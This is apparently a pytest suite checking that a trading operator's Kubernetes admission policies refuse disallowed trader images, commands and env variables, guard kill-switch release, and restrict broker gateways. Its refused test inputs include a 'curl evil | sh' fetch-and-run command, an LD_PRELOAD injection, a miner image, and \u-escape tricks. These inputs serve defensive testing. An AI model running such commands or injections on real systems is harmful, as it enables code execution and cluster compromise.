"""The chart's ValidatingAdmissionPolicies (templates/admission-policy.yaml), rendered with the stack's helm
and their CEL evaluated here with cel-python (the project's CEL library, operator/criteria.py) the way
the API server runs a policy: matchConstraints' operations, then every matchCondition, then the
variables, then each validation (an error counts as a refusal: failurePolicy Fail). The API server's
own CEL (cel-go, the Kubernetes libraries) runs them in tests/e2e/test_admission_policy.py.

cel-python has no ``join`` (Kubernetes' ext strings library): a two-line shim stands in for it."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
import yaml

celpy = pytest.importorskip("celpy")
from celpy import celtypes  # noqa: E402

REPO = Path(__file__).resolve().parents[3]
CHART = REPO / "charts" / "quantramp"
NS = "quantramp-system"
OPERATOR = f"system:serviceaccount:{NS}:quantramp-operator"


from test_chart_render import HELM  # noqa: E402  (the one helm lookup: $QR_BIN, the build cache, PATH)
pytestmark = pytest.mark.skipif(HELM is None, reason="no helm binary: hack/build-control-plane.sh builds it into ~/.cache/quantramp")


def helm(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([HELM, "template", "quantramp", str(CHART), "-n", NS, *args], capture_output=True, text=True)


def render(*args: str) -> list[dict]:
    out = helm(*args)
    assert out.returncode == 0, out.stderr
    return [d for d in yaml.safe_load_all(out.stdout) if d]


def policies(*args: str) -> dict[str, "Policy"]:
    return {d["metadata"]["name"].removeprefix("quantramp-"): Policy(d) for d in render(*args)
            if d["kind"] == "ValidatingAdmissionPolicy"}


class Policy:
    """One ValidatingAdmissionPolicy, evaluated as the API server does (variables eagerly, here)."""

    ENV = celpy.Environment()
    FUNCTIONS = {"join": lambda lst, sep: celtypes.StringType(str(sep).join(str(x) for x in lst))}

    def __init__(self, doc: dict) -> None:
        self.doc = doc
        spec = doc["spec"]
        self.operations = {op for r in spec["matchConstraints"]["resourceRules"] for op in r["operations"]}
        compile_ = lambda e: self.ENV.program(self.ENV.compile(e), functions=self.FUNCTIONS)  # noqa: E731
        self.conditions = [(c["name"], compile_(c["expression"])) for c in spec.get("matchConditions", [])]
        self.variables = [(v["name"], compile_(v["expression"])) for v in spec.get("variables", [])]
        self.validations = [(compile_(v["expression"]), v, compile_(v["messageExpression"]) if "messageExpression" in v else None)
                            for v in spec["validations"]]

    def admit(self, operation: str, obj: dict | None, old: dict | None = None, user: str = "trader-dev",
              groups: tuple[str, ...] = ("quantramp:developers", "system:authenticated")) -> list[str]:
        """The refusals' messages ([] = admitted) of one request."""
        if operation not in self.operations:
            return []
        request = {"operation": operation, "userInfo": {"username": user, **({"groups": list(groups)} if groups else {})}}
        act = {"object": celpy.json_to_cel(obj), "oldObject": celpy.json_to_cel(old), "request": celpy.json_to_cel(request)}
        try:
            if not all(bool(p.evaluate(act)) for _, p in self.conditions):
                return []
            variables = {}
            act["variables"] = celtypes.MapType()
            for name, prg in self.variables:
                variables[celtypes.StringType(name)] = prg.evaluate(act)
                act["variables"] = celtypes.MapType(variables)
            out = []
            for prg, v, msg in self.validations:
                if not bool(prg.evaluate(act)):
                    out.append(f"{v.get('reason', 'Invalid')}: {msg.evaluate(act) if msg else v['message']}")
            return out
        except celpy.CELEvalError as exc:  # failurePolicy: Fail
            return [f"error: {exc}"]


def strategy(name="s", trader=None, kill=None, annotations=None, status=None) -> dict:
    """A TradingStrategy as the API server hands it to admission: CRD defaults applied."""
    spec = {"model": {"name": "m", "version": "2"}, "capitalUsd": 100000,
            "trader": {"command": ["quantramp-trader", "run"], "barIntervalSeconds": 60.0, "env": [], **(trader or {})},
            "killSwitch": {"engaged": False, "reason": "", "by": "", "trigger": "Manual", "flatten": True, **(kill or {})}}
    obj = {"apiVersion": "quantramp.io/v1alpha1", "kind": "TradingStrategy",
           "metadata": {"name": name, "namespace": "default", **({"annotations": annotations} if annotations else {})}, "spec": spec}
    if status is not None:
        obj["status"] = status
    return obj


@pytest.fixture(scope="module")
def default():
    return policies()


# --- rendering ------------------------------------------------------------------------------

def test_rendered_by_default_bound_with_deny_and_removed_by_admission_enabled_false():
    docs = render()
    kinds = sorted((d["kind"], d["metadata"]["name"]) for d in docs if d["apiVersion"] == "admissionregistration.k8s.io/v1")
    assert kinds == [("ValidatingAdmissionPolicy", "quantramp-kill-switch-guard"), ("ValidatingAdmissionPolicy", "quantramp-trader-allowlist"),
                     ("ValidatingAdmissionPolicyBinding", "quantramp-kill-switch-guard"),
                     ("ValidatingAdmissionPolicyBinding", "quantramp-trader-allowlist")]
    for b in (d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"):
        assert b["spec"]["policyName"] == b["metadata"]["name"] and b["spec"]["validationActions"] == ["Deny"]
        assert "matchResources" not in b["spec"]  # cluster-wide operator: every namespace
    for p in (d for d in docs if d["kind"] == "ValidatingAdmissionPolicy"):
        assert p["spec"]["failurePolicy"] == "Fail"
        # the main resource only: the operator's status writes are never matched
        assert [r["resources"] for r in p["spec"]["matchConstraints"]["resourceRules"]] == [["tradingstrategies"]]
    assert not [d for d in render("--set", "admission.enabled=false") if "admissionregistration" in d["apiVersion"]]


def test_bound_to_the_watched_namespaces_and_actions_from_values():
    docs = render("--set", "watchNamespaces={trading,research}", "--set", "admission.validationActions={Warn,Audit}")
    for b in (d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"):
        assert b["spec"]["matchResources"]["namespaceSelector"]["matchExpressions"] == [
            {"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["trading", "research"]}]
        assert b["spec"]["validationActions"] == ["Warn", "Audit"]


@pytest.mark.parametrize("args,where", [
    (("--set", "admission.validationActions={Deny,Warn}"), "/admission/validationActions"),
    (("--set", "admission.validationActions={Refuse}"), "/admission/validationActions/0"),
    (("--set", "admission.allowedTraderImages={bad image}"), "/admission/allowedTraderImages/0"),
    (("--set", "admission.allowedTraderImages={registry.example.com/*/qr}"), "/admission/allowedTraderImages/0"),
    (("--set", "admission.allowedTraderEnv={LD-PRELOAD}"), "/admission/allowedTraderEnv/0"),
    (("--set", "admission.killSwitchReleaseGroups={}"), "/admission/killSwitchReleaseGroups"),
    (("--set", "admission.killSwitchReleaseGroups=null"), "missing property 'killSwitchReleaseGroups'"),
    (("--set", "admission.enable=true"), "additional properties 'enable' not allowed"),
])
def test_the_schema_refuses_bad_admission_values(args, where):
    out = helm(*args)
    assert out.returncode != 0 and where in out.stderr, out.stderr


def test_every_expression_compiles(default):
    assert set(default) == {"trader-allowlist", "kill-switch-guard"}
    for p in default.values():
        assert p.validations and all(v["message"] for _, v, _ in p.validations)


# --- the trader allow-list ------------------------------------------------------------------

@pytest.mark.parametrize("image", [None, "quantramp", "quantramp:dev", "quantramp:0.1.0", "quantramp@sha256:" + "a" * 64,
                                   "quantramp:dev@sha256:" + "0" * 64])
def test_the_chart_repository_and_an_empty_image_are_allowed(default, image):
    trader = {} if image is None else {"image": image}
    assert default["trader-allowlist"].admit("CREATE", strategy(trader=trader)) == []


def test_a_null_image_is_the_platform_default(default):
    assert default["trader-allowlist"].admit("CREATE", strategy(trader={"image": None})) == []


@pytest.mark.parametrize("image", ["evil.example.com/miner:latest", "quantramp/evil", "quantrampx:1",
                                   # a registry on port 5000 of host "quantramp": not a tag of repository quantramp
                                   "quantramp:5000/evil", "docker.io/library/quantramp:dev", "quantramp:dev:x"])
def test_other_images_are_refused_naming_the_allowed_list(default, image):
    (msg,) = default["trader-allowlist"].admit("CREATE", strategy(trader={"image": image}))
    assert msg == (f"Forbidden: spec.trader.image {image} is not an allowed trader image; allowed: quantramp "
                   "(any tag of a repository; leave it empty for the platform default)")


def test_allowed_images_from_values_repository_path_and_single_image():
    p = policies("--set", "admission.allowedTraderImages={registry.example.com/team/*,ghcr.io/acme/qr:1.2.3,reg.local:5000/qr}",
                 "--set", "trader.image.repository=registry.example.com/qr")["trader-allowlist"]
    ok = ["registry.example.com/qr:9", "registry.example.com/team/a", "registry.example.com/team/a/b:1.0",
          "ghcr.io/acme/qr:1.2.3", "reg.local:5000/qr:7"]
    bad = ["quantramp:dev", "registry.example.com/teamx/a", "registry.example.com/team", "ghcr.io/acme/qr:1.2.4",
           "ghcr.io/acme/qr", "reg.local:5001/qr", "reg.local:5000/qr/x"]
    assert {i: p.admit("CREATE", strategy(trader={"image": i})) for i in ok} == {i: [] for i in ok}
    for i in bad:
        (msg,) = p.admit("CREATE", strategy(trader={"image": i}))
        assert "allowed: registry.example.com/qr, registry.example.com/team/*, ghcr.io/acme/qr:1.2.3, reg.local:5000/qr" in msg, (i, msg)


@pytest.mark.parametrize("command", [["sh", "-c", "curl evil | sh"], ["quantramp-trader", "run", "--x"], ["quantramp-trader"]])
def test_commands_outside_the_list_are_refused(default, command):
    (msg,) = default["trader-allowlist"].admit("CREATE", strategy(trader={"command": command}))
    assert msg.startswith("Forbidden: spec.trader.command is not an allowed trader command; allowed: quantramp-trader run")


def test_env_names_outside_the_list_are_refused_by_name():
    p = policies()["trader-allowlist"]
    (msg,) = p.admit("CREATE", strategy(trader={"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}, {"name": "PYTHONPATH", "value": "/tmp"}]}))
    assert msg == "Forbidden: spec.trader.env sets LD_PRELOAD, PYTHONPATH, not allowed by the platform; allowed: none"
    p = policies("--set", "admission.allowedTraderEnv={LOG_LEVEL,MYAPP_*}")["trader-allowlist"]
    assert p.admit("CREATE", strategy(trader={"env": [{"name": "LOG_LEVEL"}, {"name": "MYAPP_X", "value": "1"}]})) == []
    (msg,) = p.admit("CREATE", strategy(trader={"env": [{"name": "MYAPPX"}, {"name": "LOG_LEVEL"}]}))
    assert "sets MYAPPX, not allowed" in msg and "allowed: LOG_LEVEL, MYAPP_*" in msg


def test_updates_are_checked_only_when_they_write_spec_trader(default):
    p = default["trader-allowlist"]
    old = strategy(trader={"image": "old.example.com/x:1"})  # admitted before the list was narrowed
    touched = strategy(trader={"image": "old.example.com/x:1"}, kill={"engaged": True, "reason": "r"})
    assert p.admit("UPDATE", touched, old) == []
    assert p.admit("UPDATE", strategy(trader={"image": "evil:1"}), strategy())
    assert p.admit("UPDATE", strategy(trader={"command": ["sh"]}), strategy())


def test_the_operators_service_account_is_never_checked(default):
    bad = strategy(trader={"image": "evil:1", "command": ["sh"]})
    assert default["trader-allowlist"].admit("CREATE", bad, user=OPERATOR, groups=("system:serviceaccounts",)) == []
    assert default["trader-allowlist"].admit("CREATE", bad, user="system:serviceaccount:other:quantramp-operator")


# --- the kill switch and the reduced sizing -------------------------------------------------

ENGAGED = {"engaged": True, "reason": "feed looks wrong", "by": "trader-dev"}
RELEASED = {"engaged": False, "reason": "feed fixed", "by": "trader-dev"}
RISK = ("quantramp:risk-officers", "system:authenticated")


def test_anyone_may_engage_the_kill_switch(default):
    g = default["kill-switch-guard"]
    assert g.admit("UPDATE", strategy(kill=ENGAGED), strategy()) == []
    # engaged again with a new reason (the operator takes it over an automatic kill)
    assert g.admit("UPDATE", strategy(kill={**ENGAGED, "reason": "still wrong"}), strategy(kill=ENGAGED)) == []


def test_only_the_release_groups_may_release_it(default):
    g = default["kill-switch-guard"]
    new, old = strategy(name="aapl", kill=RELEASED), strategy(name="aapl", kill=ENGAGED)
    (msg,) = g.admit("UPDATE", new, old)
    assert msg == ("Forbidden: releasing the kill switch of aapl is reserved to members of quantramp:risk-officers, system:masters "
                   "(you are trader-dev): ask one of them to run kubectl quantramp kill off aapl")
    assert g.admit("UPDATE", new, old, user="risk-officer", groups=RISK) == []
    assert g.admit("UPDATE", new, old, user="admin", groups=("system:masters", "system:authenticated")) == []
    assert g.admit("UPDATE", new, old, user=OPERATOR, groups=("system:serviceaccounts",)) == []
    assert g.admit("UPDATE", new, old, groups=())  # no groups at all: checked


def test_releasing_an_automatic_kill_the_operator_engaged_is_a_release_too(default):
    """The operator engages by status only (an alert, a stop-loss); any new spec.killSwitch with engaged=false
    then releases it (operator/incident.py kill_step), so the guard reads the status too."""
    g = default["kill-switch-guard"]
    auto = {"killSwitch": {"engaged": True, "reason": "daily stop-loss", "by": "quantramp-operator", "trigger": "DailyStopLoss"}}
    old, new = strategy(status=auto), strategy(kill=RELEASED, status=auto)
    assert g.admit("UPDATE", new, old) and g.admit("UPDATE", new, old, user="risk-officer", groups=RISK) == []
    released = {"killSwitch": {"engaged": False, "reason": "x"}}
    assert g.admit("UPDATE", strategy(kill=RELEASED, status=released), strategy(status=released)) == []
    assert g.admit("UPDATE", strategy(kill=RELEASED, status={"killSwitch": None}), strategy(status={"killSwitch": None})) == []


def test_other_updates_of_an_engaged_strategy_pass(default):
    g = default["kill-switch-guard"]
    old = strategy(kill=ENGAGED, annotations={"quantramp.io/progress": "1"})
    assert g.admit("UPDATE", strategy(kill=ENGAGED, annotations={"quantramp.io/progress": "2"}, trader={"barIntervalSeconds": 1}), old) == []


def action(name: str, raw: str | None = None) -> dict:
    return {"quantramp.io/action": raw or json.dumps({"id": "abc", "action": name, "reason": "r", "by": "trader-dev", "at": "t"})}


def test_only_the_release_groups_may_clear_the_reduced_sizing(default):
    g = default["kill-switch-guard"]
    (msg,) = g.admit("UPDATE", strategy(name="aapl", annotations=action("clear")), strategy(name="aapl"))
    assert msg.startswith("Forbidden: clearing the reduced (10%) champion sizing of aapl is reserved to members of quantramp:risk-officers")
    assert g.admit("UPDATE", strategy(annotations=action("clear")), strategy(), user="risk-officer", groups=RISK) == []
    for other in ("pause", "resume", "promote", "abort", "retry"):
        assert g.admit("UPDATE", strategy(annotations=action(other)), strategy(annotations=action("clear"))) == [], other
    # an action already taken (unchanged annotation) does not block other writes
    assert g.admit("UPDATE", strategy(annotations=action("clear"), kill=ENGAGED), strategy(annotations=action("clear"))) == []


@pytest.mark.parametrize("raw", ['{"id":"x","action":"clear"}', '{ "id" : "x" , "action"\n:\t"clear" }',
                                 '{"id":"x","action":"pause","action":"clear"}'])
def test_clear_is_found_in_any_json_spelling(default, raw):
    assert default["kill-switch-guard"].admit("UPDATE", strategy(annotations=action("", raw)), strategy())


def test_a_clear_spelled_with_unicode_escapes_is_refused_as_the_operator_would_read_clear(default):
    from quantramp.operator.engine import parse_action

    for raw in ('{"id":"x","action":"\\u0063lear"}', '{"id":"x","\\u0061ction":"clear"}'):
        assert parse_action(raw).action == "clear"  # what the operator would do with it
        (msg,) = default["kill-switch-guard"].admit("UPDATE", strategy(annotations=action("", raw)), strategy())
        assert msg.startswith("Invalid: quantramp.io/action must not write letters as \\u escapes")
    # the plugin's own JSON (json.dumps escapes non-ASCII, never a letter) passes
    assert default["kill-switch-guard"].admit("UPDATE", strategy(annotations=action("", json.dumps(
        {"id": "x", "action": "pause", "reason": "Zürich feed — down"}))), strategy()) == []


# --- the IB gateway and the account Secrets -----------------------------------------------------

def with_broker(host="ib-gateway", champion="ib-accounts", challenger="ib-accounts") -> dict:
    obj = strategy()
    obj["spec"]["broker"] = {"type": "ib", "ib": {
        "host": host, "app": "tws", "mode": "paper", "clientId": 1,
        "championAccountSecretKeyRef": {"name": champion, "key": "champion"},
        "challengerAccountSecretKeyRef": {"name": challenger, "key": "challenger"}}}
    return obj


def test_no_ib_gateway_is_allowed_by_default(default):
    p = default["trader-allowlist"]
    msgs = p.admit("CREATE", with_broker())
    assert "Forbidden: spec.broker.ib.host ib-gateway is not an IB Gateway the platform allows; allowed: none " \
           "(Helm value admission.allowedBrokerHosts)" in msgs
    assert any("names account Secret ib-accounts, ib-accounts, not allowed" in m for m in msgs)
    assert p.admit("CREATE", strategy()) == []  # the simulated broker needs nothing


def test_listed_gateways_and_account_secrets_are_allowed_others_refused():
    p = policies("--set", "admission.allowedBrokerHosts={ib-gateway}", "--set", "admission.allowedBrokerSecrets={ib-accounts}")[
        "trader-allowlist"]
    assert p.admit("CREATE", with_broker()) == []
    (msg,) = p.admit("CREATE", with_broker(host="other-gateway.prod"))
    assert "spec.broker.ib.host other-gateway.prod is not an IB Gateway the platform allows; allowed: ib-gateway" in msg
    (msg,) = p.admit("CREATE", with_broker(challenger="someone-elses"))
    assert "names account Secret someone-elses, not allowed" in msg
    # an update that moves an existing strategy to another gateway is checked too
    assert p.admit("UPDATE", with_broker(host="other-gateway.prod"), with_broker())
